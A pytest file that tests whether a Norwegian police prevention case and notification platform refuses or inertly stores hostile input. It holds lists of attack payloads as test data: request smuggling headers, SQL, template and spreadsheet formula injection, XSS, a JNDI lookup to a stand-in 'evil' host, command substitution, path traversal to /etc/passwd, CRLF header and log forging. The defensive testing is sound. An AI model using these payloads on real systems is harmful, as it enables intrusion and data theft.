"""What is sent is refused before it costs anything, or kept as the text that it is: never run, never repeated."""

import base64
import json
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from forkant_devstack.testing.operations import operations
from forkant_devstack.testing.plain_http import plain_client

REPOSITORY = Path(__file__).parents[2]
READS = [
    item
    for service in ("case", "notification", "indicator")
    for item in operations(REPOSITORY, service)
    if item.method == "GET" and not item.path.endswith("/stream")
]
PAGED = [item for item in READS if "cursor" in item.named("query")]
WRITES = {"case": "/v1/cases", "notification": "/v1/endpoints"}
CASE = {
    "case_type": "place", "theme": "violence", "purpose_code": "prevent_crime", "legal_basis": "police_act",
    "title": "Uro i parken",
}  # fmt: skip
CONCERN = {"source": "school", "theme": "violence", "age_band": "under_15"}
HUGE = b"Content-Length: 52428800\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n"


def head_of(path: str, *, bearer: str = "", length: bytes = b"") -> bytes:
    token = f"Authorization: {bearer}\r\n" if bearer else ""
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nIdempotency-Key: k\r\n{token}"
    return head.encode() + length + b"\r\n"


@pytest.mark.parametrize("length", [HUGE, CHUNKED], ids=["declared", "chunked"])
@pytest.mark.parametrize("service", WRITES)
async def test_no_body_is_read_before_the_token(wall, service, length):
    """The answer comes though the body never does."""
    status, text = await wall.raw(service, head_of(WRITES[service], length=length))
    assert (status, '"code":"unauthenticated"' in text) == (401, True)


@pytest.mark.parametrize("service", WRITES)
async def test_no_body_beyond_the_limit_is_read(wall, service):
    bearer, before = wall.person("lead-oslo").headers["Authorization"], await wall.state(service)
    declared, text = await wall.raw(service, head_of(WRITES[service], bearer=bearer, length=HUGE))
    assert (declared, '"code":"body-too-large"' in text) == (413, True)
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    chunked, text = await wall.raw(service, head_of(WRITES[service], bearer=bearer, length=CHUNKED), then=chunk * 17)
    assert (chunked, '"code":"body-too-large"' in text) == (413, True)
    assert await wall.state(service) == before


@pytest.mark.parametrize("smuggled", [b"Content-Length: 5\r\nContent-Length: 6\r\n", b"Content-Length: -1\r\n",
                                      b"Content-Length: 0x10\r\n", CHUNKED + b"Content-Length: 5\r\n"])  # fmt: skip
async def test_no_body_of_two_lengths_or_none_is_read(wall, smuggled):
    bearer, before = wall.person("lead-oslo").headers["Authorization"], await wall.state()
    body = b'5\r\n{"a":\r\n0\r\n\r\nGET /v1/cases HTTP/1.1\r\nHost: x\r\n\r\n'
    status, _ = await wall.raw("case", head_of("/v1/cases", bearer=bearer, length=smuggled), then=body)
    assert status in {400, 413}
    assert await wall.state() == before


def with_title(title: str) -> bytes:
    return json.dumps({**CASE, "title": "TITLE"}).replace('"TITLE"', title).encode()


HOSTILE = {
    "nested a hundred thousand deep": b'{"title":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "nested in objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a NUL": with_title(r'"Uro\u0000 i parken"'),
    "a lone surrogate": with_title(r'"Uro \ud800"'),
    "surrogates in the wrong order": with_title(r'"\udc00\ud800"'),
    "NaN": with_title("NaN"),
    "infinity": with_title("-Infinity"),
    "a number that becomes infinite": with_title("1e999"),
    "2 to the power of 70": with_title(str(2**70)),
    "five thousand digits": with_title("9" * 5000),
    "a key twice": with_title('"a", "title": "b"'),
    "a key twice by another spelling": with_title(r'"a", "t\u0069tle": "b"'),
    "another encoding": json.dumps(CASE).encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + json.dumps(CASE).encode(),
    "bytes that are no UTF-8": b'{"title": "\xff\xfe"}',
    "overlong UTF-8": b'{"title": "\xc0\x80"}',
    "something after it": json.dumps(CASE).encode() + b"{}",
    "a comment": b"/* x */" + json.dumps(CASE).encode(),
    "single quotes": b"{'title': 'x'}",
    "a control character": b'{"title": "a\nb"}',
    "nothing but blanks": b"   ",
}


@pytest.mark.parametrize("service", WRITES)
@pytest.mark.parametrize("body", HOSTILE)
async def test_no_body_is_taken_that_parsers_read_in_two_ways_such_as(wall, service, body):
    before = await wall.state(service)
    answer = await wall.person("lead-oslo").send(service, "POST", WRITES[service], content=HOSTILE[body])
    assert (answer.status_code, answer.json()["code"]) == (400, "invalid-json")
    assert await wall.state(service) == before


@pytest.mark.parametrize("media", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                                   "application/xml", "text/json", ""])  # fmt: skip
async def test_no_body_is_taken_under_another_media_type(wall, media):
    before = await wall.state()
    answer = await wall.person("lead-oslo").send(
        "case", "POST", "/v1/cases", content=json.dumps(CASE).encode(), Content_Type=media
    )
    assert (answer.status_code, answer.json()["code"]) == (415, "unsupported-media-type")
    assert await wall.state() == before


DECEIVING = {
    "text that runs from right to left": "Uro \u202egnp.exe",
    "an isolate that turns the order": "Uro \u2067i parken",
    "a line break in a title": "Uro\r\nSet-Cookie: a=b",
    "a bare carriage return": "Uro\rX",
    "an escape": "\x1b[31mUro\x1b[0m",
    "a C1 control character": "Uro \x9b31m",
    "nothing that can be seen": "\u200b\u200d\ufeff",
    "nothing but a filler": "\u3164\u2800",
    "nothing but blanks": " \u00a0\u2003 ",
}


@pytest.mark.parametrize("text", DECEIVING)
async def test_no_title_is_taken_that_shows_as_something_else_such_as(wall, text):
    before = await wall.state()
    body = {**CASE, "title": DECEIVING[text]}
    answer = await wall.person("officer-oslo").send("case", "POST", "/v1/cases", body)
    assert (answer.status_code, answer.json()["code"]) == (422, "invalid-request")
    assert await wall.state() == before


CODES = ["violence\u200b", "violence ", "VIOLENCE", "viоlence", "violence\u202e", "unknown", "", "violence' OR 1=1--"]


@pytest.mark.parametrize("code", CODES)
async def test_no_code_is_taken_that_only_looks_like_one_of_the_list(wall, code):
    before = await wall.state()
    answer = await wall.person("officer-oslo").send("case", "POST", "/v1/cases", {**CASE, "theme": code})
    assert (answer.status_code, answer.json()["code"]) == (422, "invalid-request")
    assert code == "" or code.strip() not in answer.text
    assert await wall.state() == before


LIVE_TEXTS = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in ().__class__.__bases__ %}{% endfor %}",
    '=HYPERLINK("http://evil";"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "${jndi:ldap://evil/a}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "'; DROP TABLE concern; --",
    "%s%n%x", "{0.__class__}", "$(id)", "`id`", "../../etc/passwd", "&lt;b&gt;", "😀 Å e\u0301",
]  # fmt: skip


@pytest.mark.parametrize("text", LIVE_TEXTS)
async def test_no_text_is_run_or_changed_between_writing_and_reading(wall, text):
    officer = wall.person("officer-ost")
    made = await officer.done("case", "POST", "/v1/concerns", {**CONCERN, "description": text})
    answer = await officer.done("case", "GET", made.headers["location"])
    assert answer.json()["description"] == text.replace("e\u0301", "é")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    assert "access-control-allow-origin" not in answer.headers


NUMBERS = {"case": {}, "notification": {}, "indicator": {"number": 10}}
"""Numbers in paths that show no example of themselves."""
INJECTIONS = [
    "' OR '1'='1", "1; DROP TABLE preventive_case; --", "x') UNION SELECT title FROM preventive_case --", "$1", "%",
    "\\", "\u0661", "-1", str(2**70), "1e3", "0x10", "null", "[]", "a" * 3000, "%00", "😀", "{{7*7}}",
    "(a+)+$" + "a" * 200, "2026-13-45T99:99:99Z", "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00-14:00",
    "00000000-0000-0000-0000-000000000000",
]  # fmt: skip


@pytest.mark.parametrize("operation", READS, ids=str)
async def test_no_parameter_beside_those_described_is_taken(wall, oslo, operation):
    known, ids = operation.named("query"), {**oslo.ids, "unit": "oslo", **NUMBERS[operation.service]}
    tried = {"unit", "units", "role", "subject", "scope", "restricted", "level", "as", "filter", "them"} - set(known)
    for name in sorted(tried):
        answer = await wall.able(operation).send(operation.service, "GET", f"{operation.at(**ids)}?{name}=oslo")
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid-request"), (name, answer.text)


@pytest.mark.parametrize("operation", READS, ids=str)
async def test_no_query_or_path_reaches_the_database_as_a_statement_or_breaks_the_service(wall, oslo, operation):
    lead, before = wall.able(operation), await wall.state(operation.service)
    ids = {**oslo.ids, "unit": "oslo", **NUMBERS[operation.service]}
    needed = operation.needed(unit="oslo", indicator="10", since=datetime.now(UTC).isoformat())
    plain = await lead.send(operation.service, "GET", f"{operation.at(**ids)}?{httpx.QueryParams(needed)}")
    assert plain.is_success or plain.json()["code"] in {"not-erased", "trial-not-closed"}, plain.text
    tried = [(name, text) for name in (*operation.named("query"), "sort", "order_by") for text in INJECTIONS]
    async with plain_client(base_url=wall.platform.nodes[operation.service].url, timeout=30) as client:
        for name, text in tried:
            answer = await client.get(operation.at(**ids), params={**needed, name: text}, headers=lead.headers)
            assert answer.status_code in {200, 400, 404, 422}, (name, text, answer.text)
            if answer.status_code == 200:
                if operation.at(**ids) == "/v1/audit":
                    # Reading the trail is itself written there, so what a plain reading shows grows too.
                    plain = await lead.done(operation.service, "GET", operation.at(**ids))
                assert len(answer.text) <= len(plain.text) + 2_000
            else:
                assert text not in answer.json()["detail"]
        for name in operation.named("path"):
            for text in INJECTIONS:
                path = operation.at(**{**ids, name: httpx.URL(path=f"/{text}").raw_path.decode()[1:]})
                answer = await client.get(path, headers=lead.headers)
                assert answer.status_code in {400, 404, 422}, (name, text, answer.text)
    assert await wall.state(operation.service) == before


def forged(position: object) -> str:
    return base64.urlsafe_b64encode(b"\0" * 16 + json.dumps(position).encode()).rstrip(b"=").decode()


@pytest.mark.parametrize("operation", PAGED, ids=str)
async def test_no_cursor_is_taken_but_one_that_the_list_gave(wall, oslo, troms, second_case, operation):
    lead, path = wall.mighty("oslo"), operation.at(**{**oslo.ids, **NUMBERS[operation.service]})
    needed = operation.needed(unit="oslo")
    listing = f"{path}?{httpx.QueryParams({**needed, 'limit': 1})}"
    first = (await lead.done(operation.service, "GET", listing)).json()["next"]
    other = operations(REPOSITORY, "case")
    elsewhere = "/v1/changes" if operation.path != "/v1/changes" else "/v1/cases"
    assert any(item.path == elsewhere for item in other)
    foreign = (await lead.done("case", "GET", f"{elsewhere}?limit=1")).json()["next"]
    tries = [
        "x", "====", forged("00000000-0000-0000-0000-000000000000"), forged([1, "x"]), forged("' OR 1=1 --"),
        forged({"$ne": None}), "a" * 1024, foreign,
    ]  # fmt: skip
    if first is not None:
        raw = bytearray(base64.urlsafe_b64decode(first + "=" * (-len(first) % 4)))
        raw[-2] ^= 1
        tries += [base64.urlsafe_b64encode(raw).rstrip(b"=").decode(), first[:-4], first + "AAAA"]
    for cursor in tries:
        query = httpx.QueryParams({**needed, "cursor": cursor})
        answer = await lead.send(operation.service, "GET", f"{path}?{query}")
        assert (answer.status_code, answer.json()["code"]) == (400, "invalid-cursor"), cursor


async def test_no_cursor_of_another_person_is_taken_where_lists_are_personal(wall, oslo, restricted):
    lead = await wall.person("lead-oslo").done("notification", "GET", "/v1/inbox?limit=1")
    following = lead.json()["next"]
    assert following is not None
    for other in (wall.person("officer-oslo"), wall.person("lead-troms")):
        answer = await other.send("notification", "GET", f"/v1/inbox?limit=1&cursor={following}")
        assert (answer.status_code, answer.json()["code"]) == (400, "invalid-cursor")


async def test_no_cursor_of_one_filter_is_taken_under_another(wall, oslo, second_case):
    lead = wall.person("lead-oslo")
    following = (await lead.done("case", "GET", "/v1/cases?limit=1&theme=violence")).json()["next"]
    for query in ("", "&theme=drugs", "&theme=violence&state=closed"):
        answer = await lead.send("case", "GET", f"/v1/cases?limit=1{query}&cursor={following}")
        assert (answer.status_code, answer.json()["code"]) == (400, "invalid-cursor")


async def test_no_pattern_is_tried_for_long(wall, oslo):
    """Each text below takes ages by a pattern matcher that goes back."""
    lead, long = wall.mighty("oslo"), "a-" * 50_000 + "!"
    bodies = [
        ("case", f"/v1/cases/{oslo.ids['case_id']}/transfers", {"to_unit": long}),
        (
            "case",
            f"/v1/cases/{oslo.ids['case_id']}/measures/{oslo.ids['measure_id']}/steps",
            {"step": "a_" * 50_000 + "!"},
        ),
        ("case", "/v1/cases", {**CASE, "municipality_number": "1" * 100_000}),
        ("notification", "/v1/endpoints", {"url": "http://127.0.0.1:9/", "units": ["oslo/gde-" + long]}),
        (
            "notification",
            "/v1/endpoints",
            {"url": "http://127.0.0.1:9/", "event_types": ["no.forkant." + "a." * 50_000]},
        ),
        ("notification", "/v1/endpoints", {"url": "http://" + "a." * 50_000}),
    ]
    for service, path, body in bodies:
        answer = await lead.send(service, "POST", path, body, etag=oslo.etag)
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid-request")
        assert "a-a-" not in answer.text


async def test_no_header_is_added_to_an_answer_by_what_was_sent(wall, oslo, second_case):
    lead = wall.person("lead-oslo")
    evil = "%0d%0aSet-Cookie:%20a=b%0d%0a"
    for query, status in (("theme=violence", 200), (f"theme=violence{evil}", 422), (f"theme=violence&x={evil}", 422)):
        answer = await lead.send("case", "GET", f"/v1/cases?limit=1&{query}")
        assert answer.status_code == status
        assert "set-cookie" not in answer.headers
        assert ('rel="next"' in answer.headers.get("link", "")) is (status == 200)
    bearer = lead.headers["Authorization"]
    for line in ('If-Match: "v1"\x00', "X-A: b\rSet-Cookie: a=b", "X A: b", "X-A\n: b"):
        status, text = await wall.raw(
            "case", f"GET /v1/cases HTTP/1.1\r\nHost: x\r\nAuthorization: {bearer}\r\n{line}\r\n\r\n".encode()
        )
        assert status in {200, 400}
        assert "set-cookie" not in text.lower()
    for key in ("a\u2028b", "a\x7f", "a\tb"):
        status, _ = await wall.raw(
            "case", head_of("/v1/cases", bearer=bearer).replace(b"Key: k", b"Key: " + key.encode()), then=b""
        )
        assert status in {400, 422}


async def test_no_line_of_a_log_is_made_or_coloured_by_what_was_sent(wall, oslo):
    forged_line = '{"level":"info","event":"forged-line"}'
    bearer = wall.person("lead-oslo").headers["Authorization"]
    for service in wall.platform.nodes:
        for path in (
            "/v1/a%0a" + forged_line.replace('"', "%22"),
            "/v1/%1b%5b31mforged-line",
            "/v1/cases?theme=%0aforged-line",
        ):
            for extra in (
                "User-Agent: \x1b[31mforged-line",
                "traceparent: \x1b[2Jforged-line",
                "X-Request-Id: forged-line",
            ):
                request = f"GET {path} HTTP/1.1\r\nHost: forged-line\r\nAuthorization: {bearer}\r\n{extra}\r\n\r\n"
                status, _ = await wall.raw(service, request.encode())
                assert status in {400, 404, 422}
    await wall.person("lead-oslo").send(
        "case", "POST", "/v1/cases", {**CASE, "title": "a\nforged-line", "forged-line": 1}
    )
    for name in wall.platform.children:
        text = wall.platform.log_of(name)
        assert "\x1b" not in text
        assert "forged-line" not in text
        assert all(isinstance(json.loads(line), dict) for line in text.splitlines())
